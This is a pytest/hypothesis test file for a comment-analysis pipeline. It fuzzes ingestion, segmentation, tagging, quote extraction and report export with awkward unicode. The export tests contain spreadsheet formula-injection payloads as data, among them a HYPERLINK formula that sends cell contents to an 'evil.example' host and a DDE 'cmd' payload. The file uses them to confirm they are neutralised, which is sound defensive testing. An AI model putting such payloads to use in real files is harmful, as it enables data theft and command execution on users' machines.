"""Property-based tests (hypothesis): arbitrary text never crashes a stage or loses a comment.

read (CSV/JSONL/XLSX round trips, DataFrames with NaN, numbers, dates, duplicates), segment
(arbitrary unicode incl. emoji, RTL, combining marks, NUL, lone surrogates; offsets round-trip;
one 10 MB comment), tag (tiny inline codebook; accounting holds), quotes (verbatim in the
redacted source) and export (Markdown/HTML/XLSX never crash; formulas neutralised).
"""

from __future__ import annotations

import datetime as dt
import json
import re
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from _rb import TINY_CODEBOOK_YAML
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from commentmine._segment import segment
from commentmine.errors import CommentmineError, InputError
from commentmine.ingest import read

FAST = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# Text with the awkward parts of unicode mixed in.
_AWKWARD = st.sampled_from(
    [
        "😀",
        "👩🏽‍🔧",
        "مرحبا بالعالم",
        "שלום",
        "\u202e",
        "e\u0301\u0301",
        "\u200b",
        "\ufeff",
        "\t",
        "\r\n",
        "\r",
        "\n\n",
        "\u2028",
        " - ",
        "• ",
        "1) ",
        "...",
        "!!!!!!",
        "N/A",
        "=SUM(A1)",
        "+1",
        "@x",
        "-",
        '"',
        ",",
        ";",
        "Funding is short.",
        " staff ",
    ]
)
_SAFE_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40
)
TEXT = st.lists(st.one_of(_SAFE_TEXT, _AWKWARD), max_size=6).map("".join)
# Anything a Python str can hold, NUL included (hypothesis leaves out lone surrogates).
ANY_TEXT = st.lists(st.one_of(st.text(max_size=30), _AWKWARD), max_size=6).map("".join)
# ... and lone surrogates too (a str in memory or a JSON escape can hold them).
SURROGATE_TEXT = st.lists(
    st.one_of(st.text(max_size=20), _AWKWARD, st.sampled_from(["\ud800", "\udfff", "\udc80x"])),
    max_size=6,
).map("".join)

# --- read -----------------------------------------------------------------------------------

_ID = st.text(alphabet="abcXYZ0123456789-_:.", min_size=1, max_size=8).filter(
    lambda s: s.strip() != ""
)


def _wide(ids: list[str], texts: list[str]) -> pd.DataFrame:
    return pd.DataFrame({"id": ids, "group": ["a"] * len(ids), "answer": texts}, dtype=object)


def _check_comments(df: pd.DataFrame, ids: list[str], texts: list[str]) -> None:
    assert len(df) == len(ids)  # every row accounted for
    assert df["comment_id"].tolist() == ids  # ids preserved, in order
    assert set(df["status"]) <= {"ok", "empty", "non_answer"}
    assert df["text"].tolist() == texts


@FAST
@given(rows=st.lists(st.tuples(_ID, TEXT), max_size=6, unique_by=lambda r: r[0]))
def test_read_csv_round_trip(tmp_path: Path, rows: list[tuple[str, str]]) -> None:
    ids, texts = [r[0] for r in rows], [r[1] for r in rows]
    path = tmp_path / "any.csv"
    _wide(ids, texts).to_csv(path, index=False, encoding="utf-8", lineterminator="\r\n")
    df = read(path, text_cols=["answer"], id_col="id")
    _check_comments(df, ids, texts)


@FAST
@given(rows=st.lists(st.tuples(_ID, SURROGATE_TEXT), max_size=6, unique_by=lambda r: r[0]))
def test_read_jsonl_round_trip(tmp_path: Path, rows: list[tuple[str, str]]) -> None:
    ids, texts = [r[0] for r in rows], [r[1] for r in rows]
    path = tmp_path / "any.jsonl"
    try:
        lines = [json.dumps({"id": i, "group": "a", "answer": t}) for i, t in rows]
    except UnicodeEncodeError:  # pragma: no cover - json.dumps escapes surrogates
        return
    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8")
    if not rows:
        with pytest.raises(InputError, match="E004"):
            read(path, text_cols=["answer"], id_col="id")
        return
    df = read(path, text_cols=["answer"], id_col="id")
    assert len(df) == len(ids) and df["comment_id"].tolist() == ids
    # a lone surrogate (a JSON escape) becomes U+FFFD; everything else is kept as written
    # (json joins an escaped high+low surrogate pair into one character, as it should)
    want = [re.sub("[\ud800-\udfff]", "\ufffd", json.loads(json.dumps(t))) for t in texts]
    assert df["text"].tolist() == want


# XML cannot hold C0 controls, and the writer used here (pandas) would store "=..." as a formula
_XLSX_TEXT = TEXT.map(lambda s: re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", s)).filter(
    lambda s: not s.startswith("=")
)


@settings(FAST, max_examples=15)
@given(rows=st.lists(st.tuples(_ID, _XLSX_TEXT), min_size=1, max_size=5, unique_by=lambda r: r[0]))
def test_read_xlsx_round_trip(tmp_path: Path, rows: list[tuple[str, str]]) -> None:
    ids, texts = [r[0] for r in rows], [r[1] for r in rows]
    path = tmp_path / "any.xlsx"
    _wide(ids, texts).to_excel(path, index=False, engine="openpyxl")
    df = read(path, text_cols=["answer"], id_col="id")
    assert len(df) == len(ids) and df["comment_id"].tolist() == ids
    # Excel stores "\r\n" as "\n" in some writers; compare up to line ends
    assert [t.replace("\r\n", "\n") for t in df["text"]] == [t.replace("\r\n", "\n") for t in texts]


@FAST
@given(
    values=st.lists(
        st.one_of(
            st.none(),
            st.just(float("nan")),
            st.integers(-(10**12), 10**12),
            st.floats(allow_nan=True, allow_infinity=True),
            st.booleans(),
            st.dates(dt.date(1900, 1, 1), dt.date(2100, 1, 1)),
            st.datetimes(dt.datetime(1900, 1, 1), dt.datetime(2100, 1, 1)),
            SURROGATE_TEXT,
        ),
        min_size=1,
        max_size=6,
    )
)
def test_read_frame_with_any_typed_text_column(values: list[object]) -> None:
    df = read(pd.DataFrame({"answer": pd.Series(values, dtype=object)}), text_cols="answer")
    assert len(df) == len(values)
    assert all(isinstance(t, str) for t in df["text"])
    for v, t, s in zip(values, df["text"], df["status"], strict=True):
        if v is None or (isinstance(v, float) and np.isnan(v)):
            assert t == "" and s == "empty"


@pytest.mark.parametrize(
    "column",
    [
        pd.Series([1, 2, 3], dtype="int64"),
        pd.Series([1.5, float("nan"), 3.0]),
        pd.to_datetime(pd.Series(["2024-01-01", None, "2024-03-01"])),
        pd.Series([True, False, None], dtype=object),
        pd.Series(["a", pd.NA, "c"], dtype="string"),
    ],
)
def test_read_typed_text_columns_become_text(tmp_path: Path, column: pd.Series) -> None:
    frame = pd.DataFrame({"id": ["r1", "r2", "r3"], "answer": column})
    for ext in ("csv", "jsonl", "xlsx", "parquet"):
        path = tmp_path / f"typed.{ext}"
        if ext == "csv":
            frame.to_csv(path, index=False)
        elif ext == "jsonl":
            frame.to_json(path, orient="records", lines=True, date_format="iso")
        elif ext == "xlsx":
            frame.to_excel(path, index=False)
        else:
            frame.to_parquet(path, index=False)
        df = read(path, text_cols="answer", id_col="id")
        assert df["comment_id"].tolist() == ["r1", "r2", "r3"], ext
        assert all(isinstance(t, str) for t in df["text"]), ext
        missing = column.isna().tolist()
        assert [s == "empty" for s in df["status"]] == missing, (ext, df["text"].tolist())


@pytest.mark.parametrize("ext", ["csv", "jsonl", "xlsx", "parquet"])
def test_duplicate_ids_are_a_clear_error(tmp_path: Path, ext: str) -> None:
    frame = pd.DataFrame({"id": ["a1", "b2", "a1", "b2"], "answer": ["x y z w"] * 4})
    path = tmp_path / f"dupes.{ext}"
    if ext == "csv":
        frame.to_csv(path, index=False)
    elif ext == "jsonl":
        frame.to_json(path, orient="records", lines=True)
    elif ext == "xlsx":
        frame.to_excel(path, index=False)
    else:
        frame.to_parquet(path, index=False)
    with pytest.raises(InputError) as exc:
        read(path, text_cols="answer", id_col="id")
    assert exc.value.code == "E005" and "'a1'" in str(exc.value) and "'b2'" in str(exc.value)


# --- segment --------------------------------------------------------------------------------


def _check_segments(texts: list[str], segs: pd.DataFrame) -> None:
    by_comment = dict(enumerate(texts, start=1))
    last_end: dict[str, int] = {}
    for row in segs.itertuples(index=False):
        text = by_comment[int(row.comment_id)]
        assert 0 <= row.start < row.end <= len(text)
        assert text[row.start : row.end] == row.text  # offsets round-trip
        assert row.text.strip() != ""
        assert row.start >= last_end.get(row.comment_id, 0)  # in order, no overlap
        last_end[row.comment_id] = row.end
        assert row.segment_id == f"{row.comment_id}#{row.n}"
    assert segs["segment_id"].is_unique


@settings(FAST, max_examples=80)
@given(texts=st.lists(SURROGATE_TEXT, min_size=1, max_size=5))
@example(texts=["\x00", "\ud800 lone", "a\u0301b\u200fשלום. Next!", "😀" * 100, " \t\n "])
def test_segment_offsets_round_trip_on_any_unicode(texts: list[str]) -> None:
    frame = pd.DataFrame(
        {"comment_id": [str(i) for i in range(1, len(texts) + 1)], "text": texts}, dtype=object
    )
    segs = segment(frame)
    _check_segments(texts, segs)
    covered = {int(c) for c in segs["comment_id"]}
    for i, t in enumerate(texts, start=1):
        if re.search(r"\w{5}", t):  # a word (longer than any list marker) always yields a segment
            assert i in covered, repr(t)


def test_segment_one_10mb_comment_is_chunked() -> None:
    """10 MB, 10x spaCy's default max_length (1,000,000): segment cuts it, offsets hold.

    A 2,000-character paragraph of 17 varied sentences repeated to 10 MB: every sentence must
    come back as one segment with exact offsets (repetition keeps the test fast: segment
    parses each distinct chunk once).
    """
    rng = np.random.default_rng(0)
    words = np.array(
        [
            "funding",
            "staff",
            "volunteers",
            "grant",
            "short",
            "term",
            "capacity",
            "partnership",
            "the",
            "a",
            "of",
            "we",
            "our",
            "and",
            "bid",
            "pcc",
            "commissioner",
            "small",
            "charity",
            "network",
            "meeting",
        ]
    )
    sentences = [
        " ".join(rng.choice(words, size=int(rng.integers(8, 30)))).capitalize() + "."
        for _ in range(17)
    ]
    paragraph = " ".join(sentences) + " "
    reps = 10_000_000 // len(paragraph) + 1
    big = paragraph * reps
    assert len(big) >= 10_000_000
    # what the sentencizer makes of the paragraph when it is small (spaCy keeps "a." as one
    # token, so not every "." ends a segment): the 10 MB comment must give the same, repeated
    ref = segment(pd.DataFrame({"comment_id": ["small"], "text": [paragraph * 3]}))
    per_paragraph = len(ref) // 3
    segs = segment(pd.DataFrame({"comment_id": ["big"], "text": [big]}))
    assert len(segs) == per_paragraph * reps
    assert segs["text"].tolist()[:per_paragraph] == ref["text"].tolist()[:per_paragraph]
    assert set(segs["text"]) == set(ref["text"])
    starts, ends = segs["start"].to_numpy(), segs["end"].to_numpy()
    assert (starts[1:] > ends[:-1]).all()
    for row in segs.sample(n=3000, random_state=0).itertuples(index=False):
        assert big[row.start : row.end] == row.text


def test_segment_empty_and_whitespace_only() -> None:
    frame = pd.DataFrame({"comment_id": ["1", "2", "3"], "text": ["", "   \n\t ", "\u200b"]})
    segs = segment(frame)
    _check_segments(["", "   \n\t ", "\u200b"], segs)
    assert set(segs["comment_id"]) <= {"3"}


# --- tag ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def tiny_codebook_obj():
    from commentmine.codebook import Codebook

    return Codebook.from_yaml(TINY_CODEBOOK_YAML, source="tiny.yaml")


def _accounting_holds(comments: pd.DataFrame, out: pd.DataFrame) -> None:
    from commentmine import accounting

    acc = accounting(out).as_dict()
    assert acc["comments_in"] == len(comments)
    assert acc["comments_in"] == acc["tagged"] + acc["uncoded"] + sum(acc["skipped"].values())
    assert out["comment_id"].tolist() == comments["comment_id"].tolist()


def _tag_both_levels(codebook, texts: list[str], **options) -> None:
    from commentmine import accounting
    from commentmine._tagging._public import tag

    comments = read(pd.DataFrame({"answer": texts}, dtype=object), text_cols="answer")
    out = tag(comments, codebook, level="comment", **options)
    _accounting_holds(comments, out)
    seg_tags = tag(comments, codebook, **options)
    assert accounting(seg_tags, comments) == accounting(out)
    assert set(seg_tags["comment_id"]) <= set(
        out.loc[out["status"].isin(["tagged", "uncoded"]), "comment_id"]
    )


# Words from the codebook mixed in, so that themes actually fire on some examples.
_TAG_TEXT = st.lists(
    st.one_of(ANY_TEXT, st.sampled_from(["funding", "grants", "our staff", "volunteers", "."])),
    max_size=5,
).map(" ".join)


@settings(FAST, max_examples=25)
@given(texts=st.lists(_TAG_TEXT, min_size=3, max_size=8))
@example(texts=["", " ", "n/a", "\x00", "😀 مرحبا", "Funding is short. Staff are few."])
def test_tag_any_texts_accounts_for_every_comment(tiny_codebook_obj, texts: list[str]) -> None:
    _tag_both_levels(tiny_codebook_obj, texts)


def test_tag_two_one_word_answers(tiny_codebook_obj) -> None:
    _tag_both_levels(tiny_codebook_obj, ["funding", "staff"])


def test_tag_lone_surrogate(tiny_codebook_obj) -> None:
    _tag_both_levels(tiny_codebook_obj, ["funding is short \ud800 here", "our staff", "grants"])


# --- quotes ---------------------------------------------------------------------------------


def _tags_from_segments(segs: pd.DataFrame) -> pd.DataFrame:
    """A stand-in tagger: every segment gets theme 'money' (score by length), no model needed."""
    tags = segs.drop(columns=["lemmas", "n"]).copy()
    tags["theme"] = "money"
    tags["score"] = [min(1.0, 0.5 + len(t) / 400) for t in tags["text"]]
    tags["evidence"] = "{}"
    return tags


class _HashEmbedder:
    name = "hash-8"

    def embed(self, texts):  # noqa: ANN001, ANN201
        out = np.ones((len(texts), 8), dtype=np.float32)
        for i, t in enumerate(texts):
            for j, ch in enumerate(str(t)[:64]):
                out[i, (ord(ch) + j) % 8] += 1.0
        return out / np.linalg.norm(out, axis=1, keepdims=True)


_PROSE = st.lists(
    st.one_of(
        st.sampled_from(
            [
                "Funding is short term and small.",
                "Email jo.bloggs@example.org for details.",
                "Call 07700 900123 today.",
                "Margaret Thornbury wrote the bid.",
                "We have no staff!",
                '=HYPERLINK("http://evil")',
                "مرحبا بالعالم.",
                "😀 grants 😀.",
                "\n- bullet one\n- bullet two",
            ]
        ),
        _SAFE_TEXT,
    ),
    min_size=1,
    max_size=5,
).map(" ".join)


@settings(FAST, max_examples=15)
@given(texts=st.lists(_PROSE, min_size=1, max_size=6))
def test_quotes_are_verbatim_in_the_redacted_source(tiny_codebook_obj, texts: list[str]) -> None:
    from commentmine._quotes._public import quotes
    from commentmine._redact._public import redact

    comments = read(pd.DataFrame({"answer": texts}, dtype=object), text_cols="answer")
    segs = segment(comments)
    assume(len(segs) > 0)
    q = quotes(
        _tags_from_segments(segs),
        comments=comments,
        codebook=tiny_codebook_obj,
        n=3,
        min_words=1,
        embedder=_HashEmbedder(),
    )
    source = dict(zip(comments["comment_id"], comments["text"], strict=True))
    for row in q.itertuples(index=False):
        redacted = redact(source[row.comment_id])
        assert row.text in redacted, (row.text, redacted)
        assert "jo.bloggs@example.org" not in row.text and "07700 900123" not in row.text


# --- export ---------------------------------------------------------------------------------


_NO_C0 = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _report_any(out: Path, codebook, texts: list[str], title: str) -> dict:
    from commentmine.export import report

    comments = read(pd.DataFrame({"answer": texts}, dtype=object), text_cols="answer")
    segs = segment(comments)
    return report(
        _tags_from_segments(segs),
        comments,
        codebook,
        out,
        formats=("md", "html", "xlsx"),
        title=title or "t",
        embedder=_HashEmbedder(),
        min_cell=1,
    )


@settings(FAST, max_examples=6)
@given(
    texts=st.lists(_PROSE.map(lambda t: _NO_C0.sub("", t)), min_size=1, max_size=4),
    title=TEXT.map(lambda t: _NO_C0.sub("", t)),
)
def test_export_writes_any_text(tmp_path_factory, tiny_codebook_obj, texts, title) -> None:
    from commentmine.export import report

    out = tmp_path_factory.mktemp("report")
    comments = read(pd.DataFrame({"answer": texts}, dtype=object), text_cols="answer")
    segs = segment(comments)
    assume(len(segs) > 0)
    paths = report(
        _tags_from_segments(segs),
        comments,
        tiny_codebook_obj,
        out,
        formats=("md", "html", "xlsx"),
        title=title or "t",
        embedder=_HashEmbedder(),
        min_cell=1,
    )
    assert {"md", "html", "xlsx"} <= set(paths)
    _assert_no_live_formula(paths["xlsx"])


def test_export_text_with_control_characters(tmp_path: Path, tiny_codebook_obj) -> None:
    texts = [
        "Funding is short term and small. \x15Bad\x1abytes\x15 in grants here.",
        "Our staff are few and \x07funding\x08 is small.",
    ]
    paths = _report_any(tmp_path, tiny_codebook_obj, texts, "title\x07")
    _assert_no_live_formula(paths["xlsx"])


def _assert_no_live_formula(xlsx: Path) -> None:
    """No cell of any sheet is a formula or a string a spreadsheet would run as one."""
    import openpyxl

    wb = openpyxl.load_workbook(xlsx)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@")), cell.value
    with zipfile.ZipFile(xlsx) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name)


def test_export_neutralises_formula_injection(tmp_path: Path, tiny_codebook_obj) -> None:
    from commentmine.export import report

    texts = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click") funding is short.',
        "+cmd|' /C calc'!A0 funding grants.",
        "-2+3 staff volunteers.",
        "@SUM(1+1) funding money.",
        "\t=1+1 grants.",
    ]
    frame = pd.DataFrame({"id": ["=1+1", "+r2", "-r3", "@r4", "r5"], "answer": texts})
    comments = read(frame, text_cols="answer", id_col="id")
    segs = segment(comments)
    paths = report(
        _tags_from_segments(segs),
        comments,
        tiny_codebook_obj,
        tmp_path,
        formats=("xlsx", "csv"),
        embedder=_HashEmbedder(),
        min_cell=1,
        redact=False,
    )
    _assert_no_live_formula(paths["xlsx"])
    csv = pd.read_csv(paths["csv"], dtype=str, keep_default_na=False)
    for col in csv.columns:
        for v in csv[col]:
            assert not str(v).startswith(("=", "+", "-", "@", "\t")), (col, v)


def test_read_errors_are_commentmine_errors(tmp_path: Path) -> None:
    """A sanity anchor for the fuzz target: a known bad file raises CommentmineError."""
    bad = tmp_path / "x.csv"
    bad.write_bytes(b'id,a\n1,"never closed\n')
    with pytest.raises(CommentmineError):
        read(bad)
